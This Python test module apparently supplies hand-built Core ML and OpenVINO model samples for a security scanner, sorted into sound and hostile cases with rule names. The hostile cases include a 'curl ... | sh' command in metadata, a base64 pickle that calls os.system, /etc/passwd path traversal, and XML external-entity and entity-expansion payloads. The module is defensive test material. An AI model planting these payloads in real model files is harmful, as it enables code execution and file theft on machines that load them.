"""Core ML and OpenVINO models, harmless and hostile, written by hand. Nothing runs them."""

# ruff: noqa: E501 - one case a line reads best
from __future__ import annotations

from tests.assets.protobuf_bytes import field


def _layer(name: str, more: bytes) -> bytes:
    return field(1, field(1, name) + more)


def _program(*operations: bytes) -> bytes:
    block = b"".join(field(3, each) for each in operations)
    function = field(3, field(1, "CoreML7") + field(2, block))
    return field(502, field(1, 1) + field(2, field(1, "main") + field(2, function)))


def _weights(path: str) -> bytes:
    value = field(5, field(1, path) + field(2, 64))
    return field(1, "const") + field(5, field(1, "val") + field(2, value))


def coreml(kind: bytes, version: int = 8) -> bytes:
    """A Core ML model of this kind."""
    return field(1, version) + field(2, field(1, field(1, "x"))) + kind


RELU = _layer("relu", field(130, field(10, b"")))
NETWORK = field(500, RELU)


def sound_coreml() -> dict[str, bytes]:
    """Models that need nothing else."""
    pipeline = field(202, field(1, coreml(NETWORK)) + field(1, coreml(field(604, b""))) + field(2, "a"))
    branch = field(500, _layer("b", field(605, field(1, RELU) + field(2, RELU))))
    return {
        "network": coreml(NETWORK),
        "pipeline": coreml(pipeline),
        "branch": coreml(branch),
        "program": coreml(_program(_weights("@model_path/weights/weight.bin"), field(1, "matmul"))),
    }


def hostile_coreml() -> dict[str, tuple[str, bytes]]:
    """Models that are attacks, malformed, or for review: name to (rule, bytes)."""
    custom = _layer("c", field(500, field(10, "EvilLayer")))
    branch = field(500, _layer("b", field(605, field(1, custom))))
    deep = NETWORK
    for _ in range(60):
        deep = field(202, field(1, coreml(deep)))
    linked = field(556, field(1, field(1, field(1, "../../other")) + field(2, field(1, "/tmp"))))
    return {
        "weights elsewhere": ("path-elsewhere", coreml(_program(_weights("@model_path/../../../../etc/passwd")))),
        "weights absolute": ("path-elsewhere", coreml(_program(_weights("/etc/passwd")))),
        "linked": ("path-elsewhere", coreml(linked)),
        "custom model": ("unknown-operation", coreml(field(555, field(10, "EvilModel")))),
        "custom layer": ("unknown-operation", coreml(field(500, custom))),
        "custom layer in a branch": ("unknown-operation", coreml(branch)),
        "custom operation": ("unknown-operation", coreml(_program(field(1, "custom") + field(5, field(1, "class_name") + field(2, b""))))),
        "command in the description": ("code-in-metadata", coreml(NETWORK + field(2, field(100, field(1, "curl http://example.com/x | sh"))))),
        "pickle beside the description": ("code-in-metadata", coreml(NETWORK + field(2, field(100, field(100, field(1, "k") + field(2, "Y29zCnN5c3RlbQooUydlY2hvIGhpJwp0Ui4=")))))),
        "unpublished": ("opaque", coreml(field(3000, field(1, "x") + field(2, b"y")))),
        "empty": ("malformed", b""),
        "cut": ("malformed", coreml(NETWORK)[:-3]),
        "two kinds": ("malformed", coreml(NETWORK + field(555, b""))),
        "version": ("malformed", coreml(NETWORK, 9999)),
        "deep": ("malformed", coreml(deep)),
        "payload": ("hidden-bytes", coreml(NETWORK + field(77, bytes(4000)))),
    }  # fmt: skip


def ir(layers: str, before: str = "") -> str:
    """A description of an OpenVINO model."""
    return (
        f'<?xml version="1.0"?>\n{before}<net name="m" version="11"><layers>{layers}</layers><edges/></net>'
    )


def const(offset: str = "0", size: str = "16", shape: str = "1, 4", name: str = "w") -> str:
    """A constant."""
    data = f'<data element_type="f32" shape="{shape}" offset="{offset}" size="{size}"/>'
    return f'<layer id="1" name="{name}" type="Const" version="opset1">{data}</layer>'


RELU_LAYER = '<layer id="2" name="r" type="ReLU" version="opset1"/>'


def sound_ir() -> dict[str, str]:
    """Descriptions of models with 16 bytes of weights that need nothing else."""
    tokenizer = '<layer id="3" name="t" type="RegexSplit" version="extension"/>'
    return {
        "plain": ir(RELU_LAYER + const()),
        "tokenizer": ir(tokenizer),
        "device": ir(
            '<layer id="2" name="r" type="ReLU" version="opset1"><data implementation="fp16" library="CPU"/></layer>'
        ),
        "empty constant": ir(const("0", "0", "0")),
        "metadata": ir(RELU_LAYER).replace(
            "<edges/>",
            '<edges/><rt_info><MO_version value="2026.4"/><chat_template value="{{ messages[0].content }}"/></rt_info>',
        ),
    }


def hostile_ir() -> dict[str, tuple[str, str]]:
    """Descriptions that are attacks, malformed, or for review: name to (rule, text)."""
    laughs = '<!DOCTYPE net [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>'
    return {
        "entities": ("xml-entities", ir(const(name="&b;"), laughs)),
        "external entity": ("xml-entities", ir(RELU_LAYER, '<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]>')),
        "external document type": ("xml-entities", ir(RELU_LAYER, '<!DOCTYPE net SYSTEM "http://127.0.0.1/x.dtd">')),
        "kernel elsewhere": ("path-elsewhere", '<CustomLayer name="R" type="SimpleGPU"><Kernel entry="r"><Source filename="../../evil.cl"/></Kernel></CustomLayer>'),
        "library": ("names-library", ir('<layer id="2" name="r" type="ReLU" library="libevil.so.1"/>')),
        "library inside": ("names-library", ir('<layer id="2" name="r" type="ReLU" version="opset1"><data implementation="../op"/></layer>')),
        "pickle in metadata": ("code-in-metadata", ir(RELU_LAYER).replace("<edges/>", '<edges/><rt_info><a value="Y29zCnN5c3RlbQooUydlY2hvIGhpJwp0Ui4="/></rt_info>')),
        "kernel": ("unknown-operation", '<CustomLayer name="R" type="SimpleGPU"><Kernel entry="r"><Source filename="r.cl"/></Kernel></CustomLayer>'),
        "extension": ("unknown-operation", ir('<layer id="2" name="r" type="Evil" version="extension"/>')),
        "beyond the weights": ("malformed", ir(const("8"))),
        "offset overflows": ("malformed", ir(const("18446744073709551615"))),
        "offset negative": ("malformed", ir(const("-16"))),
        "other shape": ("malformed", ir(const(shape="9, 9"))),
        "cut": ("malformed", ir(RELU_LAYER)[:-20]),
        "deep": ("malformed", ir("<a>" * 500)),
        "no type": ("malformed", ir('<layer id="2" name="r" version="opset1"/>')),
        "name escapes": ("malformed", ir(const(name="a\u202eb"))),
    }  # fmt: skip
